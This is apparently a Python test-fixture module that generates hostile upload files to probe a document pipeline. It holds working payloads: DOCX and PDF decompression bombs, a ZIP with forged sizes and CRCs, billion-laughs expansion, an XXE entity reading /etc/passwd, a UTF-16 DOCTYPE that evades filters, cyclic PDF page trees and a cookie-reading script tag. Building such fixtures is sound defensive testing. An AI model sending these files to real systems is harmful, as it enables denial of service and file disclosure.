"""Each function returns the bytes of a real file that attacks an upload pipeline."""

import io
import re
import struct
import zipfile
import zlib
from functools import lru_cache

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    "</Types>"
)
# The package relationship a Word reader follows to the main document.
RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Target="word/document.xml" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/>'
    "</Relationships>"
)
DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"
)


def docx(members: dict[str, bytes | str] | None = None, *, text: str = "Jane Doe") -> bytes:
    """A minimal DOCX; ``members`` are added to (or replace) the standard parts."""
    parts: dict[str, bytes | str] = {
        "[Content_Types].xml": CONTENT_TYPES,
        "word/document.xml": DOCUMENT.format(text=text),
    }
    parts.update(members or {})
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def docx_zip_bomb(uncompressed_mb: int = 60) -> bytes:
    """A DOCX whose one extra member inflates from ~60 KB to ``uncompressed_mb`` MB of zeros."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("word/document.xml", DOCUMENT.format(text="Jane Doe"))
        with archive.open("word/media/padding.bin", "w", force_zip64=True) as member:
            chunk = b"\0" * (1024 * 1024)
            for _ in range(uncompressed_mb):
                member.write(chunk)
    return buffer.getvalue()


@lru_cache(maxsize=4)
def deflate_run(prefix: bytes, size: int, fill: bytes = b" ") -> bytes:
    """A raw deflate stream of ``prefix`` then ``fill`` repeated up to ``size`` bytes, built
    without compressing them: after a full flush a deflate block has no back references, so
    the block for 1 MB of ``fill`` is emitted once and repeated (1.2 GB cost 1.2 MB)."""
    mb = 1024 * 1024
    head = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = head.compress(prefix) + head.flush(zlib.Z_FULL_FLUSH)
    block = zlib.compressobj(9, zlib.DEFLATED, -15)
    block.compress(fill * mb)
    one_mb = block.flush(zlib.Z_FULL_FLUSH)
    whole, rest = divmod(max(size - len(prefix), 0), mb)
    tail = zlib.compressobj(9, zlib.DEFLATED, -15)
    last = tail.compress(fill * rest) + tail.flush()
    return first + one_mb * whole + last


def zip_archive(members: list[tuple[str, bytes, int, int]]) -> bytes:
    """A ZIP written by hand: (name, raw deflate stream, declared CRC-32, declared size) per
    member, so a member can claim any size, whatever its stream inflates to."""
    out = io.BytesIO()
    directory = []
    for name, stream, crc, declared_size in members:
        encoded = name.encode()
        offset = out.tell()
        # version 20, no flags, deflate, no time/date
        fixed = struct.pack("<HHHHHIII", 20, 0, 8, 0, 0, crc, len(stream), declared_size)
        out.write(b"PK\x03\x04" + fixed + struct.pack("<HH", len(encoded), 0) + encoded + stream)
        directory.append(
            b"PK\x01\x02"
            + struct.pack("<H", 20)
            + fixed
            + struct.pack("<HHHHHII", len(encoded), 0, 0, 0, 0, 0, offset)
            + encoded
        )
    start = out.tell()
    for entry in directory:
        out.write(entry)
    size = out.tell() - start
    out.write(b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, len(members), len(members), size, start, 0))
    return out.getvalue()


def _deflated(data: bytes) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush()


def docx_lying_size(inflated_mb: int = 1200, *, declared: int = 1024, crc_of_declared: bool = False) -> bytes:
    """A DOCX whose ``word/document.xml`` the zip directory declares as ``declared`` bytes,
    while its 1.2 MB deflate stream inflates to ``inflated_mb`` MB (an XML start, then spaces).

    The declared CRC-32 is of nothing real (reading the member fails its CRC check only once
    the declared bytes are out), or, with ``crc_of_declared``, of exactly the declared bytes, so
    a reader that stops at the declared size sees a valid (if truncated) part."""
    prefix = DOCUMENT.split("{text}")[0].encode()
    stream = deflate_run(prefix, inflated_mb * 1024 * 1024)
    declared_bytes = (prefix + b" " * declared)[:declared]
    crc = zlib.crc32(declared_bytes) if crc_of_declared else 0x1BADC0DE
    honest = [
        (name, data.encode())
        for name, data in (("[Content_Types].xml", CONTENT_TYPES), ("_rels/.rels", RELS))
    ]
    return zip_archive(
        [
            *((name, _deflated(data), zlib.crc32(data), len(data)) for name, data in honest),
            ("word/document.xml", stream, crc, declared),
        ]
    )


def docx_many_members(count: int = 5000) -> bytes:
    return docx({f"word/parts/p{index}.bin": b"x" for index in range(count)})


def docx_billion_laughs() -> bytes:
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{level} "{("&lol" + str(level - 1) + ";") * 10 if level > 1 else "&lol;" * 10}">'
        for level in range(1, 10)
    )
    document = (
        f'<?xml version="1.0"?><!DOCTYPE lolz [{entities}]>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        "<w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>"
    )
    return docx({"word/document.xml": document})


def docx_xxe() -> bytes:
    document = (
        '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        "<w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>"
    )
    return docx({"word/document.xml": document})


def docx_utf16_doctype() -> bytes:
    """The DOCTYPE hidden in a UTF-16 encoded part, where a byte search for '<!DOCTYPE' misses it."""
    document = (
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d [<!ENTITY a "b">]>'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'
    )
    return docx({"word/document.xml": "\ufeff".encode("utf-16-le") + document.encode("utf-16-le")})


def pdf(objects: list[str]) -> bytes:
    """A PDF from object bodies (object 1 is the catalog), with a correct xref table."""
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(f"{number} 0 obj\n{body}\nendobj\n".encode("latin-1"))
    xref = out.tell()
    out.write(f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode())
    for offset in offsets:
        out.write(f"{offset:010d} 00000 n \n".encode())
    out.write(f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode())
    return out.getvalue()


def pdf_text(lines: list[str]) -> bytes:
    """A real one-page PDF that prints ``lines`` in Helvetica."""
    ops = ["BT", "/F1 11 Tf", "14 TL", "50 780 Td"]
    for line in lines:
        escaped = line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)")
        ops.append(f"({escaped}) Tj T*")
    ops.append("ET")
    stream = "\n".join(ops)
    return pdf(
        [
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
            "/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
            f"<< /Length {len(stream)} >>\nstream\n{stream}\nendstream",
            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        ]
    )


def pdf_many_pages(count: int = 500) -> bytes:
    """A valid PDF with ``count`` empty pages."""
    first_page = 3
    kids = " ".join(f"{first_page + index} 0 R" for index in range(count))
    objects = ["<< /Type /Catalog /Pages 2 0 R >>", f"<< /Type /Pages /Kids [{kids}] /Count {count} >>"]
    objects += ["<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"] * count
    return pdf(objects)


def pdf_page_tree(pages: int = 300_000, *, fan_out: int = 1000) -> bytes:
    """A page tree of ``pages`` pages in 8 KB: one inner node listed ``pages / fan_out`` times,
    each listing the same page ``fan_out`` times (a real tree of distinct pages is as deep)."""
    nodes = " ".join(["3 0 R"] * (pages // fan_out))
    leaves = " ".join(["4 0 R"] * fan_out)
    return pdf(
        [
            "<< /Type /Catalog /Pages 2 0 R >>",
            f"<< /Type /Pages /Kids [{nodes}] /Count {pages} >>",
            f"<< /Type /Pages /Parent 2 0 R /Kids [{leaves}] /Count {fan_out} >>",
            "<< /Type /Page /Parent 3 0 R /MediaBox [0 0 595 842] >>",
        ]
    )


def pdf_cyclic_page_tree() -> bytes:
    """A page tree whose node lists itself (and its parent) as kids: a naive walk never ends."""
    return pdf(
        [
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 1000000 >>",
            "<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 1000000 >>",
        ]
    )


def pdf_malformed() -> bytes:
    return b"%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R\n garbage \x00\x01 no xref, no trailer"


def windows_exe() -> bytes:
    """The start of a PE executable (DOS stub and PE header)."""
    header = bytearray(256)
    header[0:2] = b"MZ"
    header[0x3C] = 0x80
    header[0x80:0x84] = b"PE\0\0"
    header[0x40 : 0x40 + 39] = b"This program cannot be run in DOS mode."
    return bytes(header)


def html_page() -> bytes:
    return b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script>Jane Doe</body></html>"


def pdf_flate_bomb(uncompressed_mb: int = 200) -> bytes:
    """A one-page PDF whose content stream inflates from ~200 KB to ``uncompressed_mb`` MB."""
    compressor = zlib.compressobj(9)
    chunk = b"BT /F1 11 Tf 50 780 Td (Jane Doe) Tj ET\n" + b" " * (1024 * 1024 - 41)
    body = b"".join(compressor.compress(chunk) for _ in range(uncompressed_mb)) + compressor.flush()
    head = pdf(
        [
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
            "/Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>",
            f"<< /Length {len(body)} /Filter /FlateDecode >>\nstream\n@@BODY@@\nendstream",
            "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        ]
    )
    # The xref offsets after the stream shift by the body's length: rebuild them properly.
    return _pdf_with_binary_stream(head, body)


def _pdf_with_binary_stream(template: bytes, body: bytes) -> bytes:
    before, after = template.split(b"@@BODY@@", 1)
    objects_end = after.index(b"xref\n")
    data = before + body + after[:objects_end]
    offsets = [match.start() for match in re.finditer(rb"(?m)^\d+ 0 obj\n", data)]
    out = io.BytesIO()
    out.write(data)
    xref = out.tell()
    out.write(f"xref\n0 {len(offsets) + 1}\n0000000000 65535 f \n".encode())
    for offset in offsets:
        out.write(f"{offset:010d} 00000 n \n".encode())
    out.write(f"trailer\n<< /Size {len(offsets) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode())
    return out.getvalue()


def pdf_self_referencing() -> bytes:
    """One page whose page tree node is its own kid and whose resources point at themselves."""
    return pdf(
        [
            "<< /Type /Catalog /Pages 2 0 R >>",
            "<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources 4 0 R /Contents 5 0 R >>",
            "<< /Font << /F1 4 0 R >> /XObject << /X1 4 0 R >> /Next 4 0 R >>",
            "<< /Length 0 >>\nstream\n\nendstream",
        ]
    )
